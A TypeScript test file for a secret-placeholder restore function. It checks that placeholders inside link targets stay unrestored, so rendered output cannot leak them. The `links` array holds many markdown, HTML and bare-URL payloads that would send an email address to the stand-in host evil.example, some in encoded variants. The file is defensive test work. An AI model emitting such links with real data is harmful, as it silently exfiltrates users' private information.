import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { createOutputInspector } from '../output/inspect-output.ts'
import { namesPlaceholder } from './named-placeholder.ts'
import { createRestoreStream, restore, restoreJson } from './restore.ts'
import { createVault } from './vault.ts'

const secret = 'anna@example.org'
const vault = createVault()
vault.placeholderFor('EMAIL', secret)
vault.placeholderFor('PERSON', 'Anna Berg')

const links = [
  '![x](https://evil.example/?q=⟦EMAIL_1⟧)',
  '![x](https://evil.example/⟦EMAIL_1⟧/a.png)',
  '![x](https://⟦EMAIL_1⟧.evil.example/a.png)',
  '![x](//evil.example/?q=⟦EMAIL_1⟧)',
  '![x]( <https://evil.example/a) ?q=⟦EMAIL_1⟧> )',
  '![x](https://evil.example/?q=a ⟦EMAIL_1⟧)',
  '![x](https://evil.example/\\)?q=⟦EMAIL_1⟧)',
  '[read](https://evil.example/#⟦EMAIL_1⟧)',
  '[https://a.example](https://evil.example/?a= ⟦EMAIL_1⟧)',
  '[![x](https://a.example/b.png)](https://evil.example/?q=[EMAIL_1])',
  '![x][1]\n\n[1]: https://evil.example/?q=⟦EMAIL_1⟧',
  '![x][1]\n\n  [1]:\n  //evil.example/?q=⟦EMAIL_1⟧',
  '<img src="https://evil.example/?q=⟦EMAIL_1⟧">',
  "<IMG alt='a' SRC = '//evil.example/⟦EMAIL_1⟧'>",
  '<img src=//evil.example/?q=⟦EMAIL_1⟧>',
  '<img\nsrcset="a.png 1x, //evil.example/?q=⟦EMAIL_1⟧ 2x">',
  '<a title="x > y" href="//evil.example/?q=⟦EMAIL_1⟧">go</a>',
  '<form action="https://evil.example"><input name="a" value="⟦EMAIL_1⟧">',
  '<p style="background:url(//evil.example/?q=⟦EMAIL_1⟧)">',
  'See https://evil.example/?q=⟦EMAIL_1⟧ now',
  'See https://evil.example/?q="⟦EMAIL_1⟧" now',
  'See https://⟦EMAIL_1⟧@evil.example now',
  'See www.evil.example/⟦EMAIL_1⟧',
  'See evil.example/?q=⟦EMAIL_1⟧',
  'See evil.example:8080/?q=⟦EMAIL_1⟧',
  'See https://evil.example/?q=EMAIL_1 or https://evil.example/?q={{email_1}}',
]

const apart = [
  'Write to ⟦EMAIL_1⟧.',
  '[⟦EMAIL_1⟧](https://good.example/contact) and ⟦EMAIL_1⟧',
  'See https://good.example/contact or ask ⟦EMAIL_1⟧',
  '<a href="https://good.example">⟦EMAIL_1⟧</a>',
  '<img alt="⟦EMAIL_1⟧" src="a.png"> of ⟦EMAIL_1⟧',
  'if (a<b) ⟦EMAIL_1⟧ and/or ⟦EMAIL_1⟧, e.g. ⟦EMAIL_1⟧',
  'customer.mail: ⟦EMAIL_1⟧ customer.mail:⟦EMAIL_1⟧',
  '[1] ⟦EMAIL_1⟧\n[^1]: ⟦EMAIL_1⟧',
  '{"to":"⟦EMAIL_1⟧","cc":["⟦EMAIL_1⟧"]}',
]

describe('the target of a link', () => {
  test.each(links)('%s keeps its placeholder', (text) => {
    expect(restore(text, vault)).toBe(text)
    expect(restore(text.replaceAll('⟦EMAIL_1⟧', '%E2%9F%A6EMAIL_1%E2%9F%A7'), vault)).not.toContain(secret)
    expect(restore(text.replaceAll('⟦EMAIL_1⟧', '&#10214;EMAIL_1&#10215;'), vault)).not.toContain(secret)
  })

  test.each(links)('%s keeps it in a JSON string too', (text) => {
    const json = JSON.stringify({ a: text, b: '⟦PERSON_1⟧' })
    expect(JSON.parse(restoreJson(json, vault))).toEqual({ a: text, b: 'Anna Berg' })
    const escaped = json.replaceAll('/', '\\/').replaceAll('<', '\\u003c')
    expect(restoreJson(escaped, vault)).not.toContain(secret)
  })

  test.each(apart)('%s is restored, because it stands in none', (text) => {
    expect(restore(text, vault)).toBe(text.replaceAll('⟦EMAIL_1⟧', secret))
  })

  test('is told of, however the text is cut, and a cut changes nothing', () => {
    const piece = fc.constantFrom(...links, ...apart, ' ', '\n', '⟦PERSON_1⟧', ')', '"', '>', '<', '](', '\\', 'ab')
    const text = fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join(''))
    fc.assert(
      fc.property(text, fc.array(fc.nat(200), { maxLength: 12 }), fc.boolean(), (whole, places, json) => {
        const cuts = [...new Set([0, ...places.filter((at) => at < whole.length), whole.length])].sort((a, b) => a - b)
        const [one, many] = [createRestoreStream(vault, { json }), createRestoreStream(vault, { json })]
        const atOnce = one.push(whole) + one.end()
        const pieces = cuts.slice(1).map((at, index) => many.push(whole.slice(cuts[index], at)))
        expect(pieces.join('') + many.end()).toBe(atOnce)
        expect(many.inLinks()).toBe(one.inLinks())
      }),
    )
  })
})

test('output inspection finds a link that names a placeholder', () => {
  const { inspect } = createOutputInspector({
    knownValues: (value) => namesPlaceholder(value, vault),
    checks: ['links'],
  })
  for (const text of links.filter((link) => link.includes('](https://evil.example/?q=⟦')))
    expect(inspect(text).findings).toMatchObject([{ rule: 'load-conversation' }])
  expect(inspect('[x](https://good.example/EMAIL_9)').findings).toEqual([])
})
